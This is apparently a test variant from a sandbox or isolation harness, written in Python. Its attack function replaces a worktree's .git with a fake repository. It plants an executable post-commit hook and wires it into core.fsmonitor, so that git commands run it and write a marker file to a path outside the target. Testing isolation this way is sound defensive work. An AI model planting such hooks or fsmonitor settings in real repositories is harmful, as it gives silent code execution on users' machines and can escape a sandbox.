"""Replaces the worktree's .git by a repository of its own with hooks and a monitor."""

from __future__ import annotations

from pathlib import Path

import kit

VARIANT = 0


def attack(out: str) -> None:
    proof = Path(kit.TARGETS["outside"], kit.NAME)
    script = f"#!/bin/sh\necho hook >> '{proof}'\nexit 0\n"
    work = Path(kit.TARGETS["home"], "worktrees", kit.TARGETS["idea"])
    for folder in (Path("."), work):
        with kit.step(str(folder)):
            git = folder / ".git"
            git.rename(folder / (kit.NAME + ".git"))
            (git / "hooks").mkdir(parents=True)
            for sub in ("objects", "refs"):
                (git / sub).mkdir()
            (git / "HEAD").write_text("ref: refs/heads/main\n")
            (git / "hooks" / "post-commit").write_text(script)
            (git / "hooks" / "post-commit").chmod(0o755)
            (git / "config").write_text(
                f'[core]\n\tfsmonitor = "{git.resolve()}/hooks/post-commit"\n'
            )
        with kit.step(f"{folder} attributes"):
            (folder / ".gitattributes").write_text("* filter=h diff=h\n# " + kit.NAME + "\n")


out_dir = kit.begin()
if VARIANT == 1:
    attack(out_dir)
kit.finish(out_dir, VARIANT)
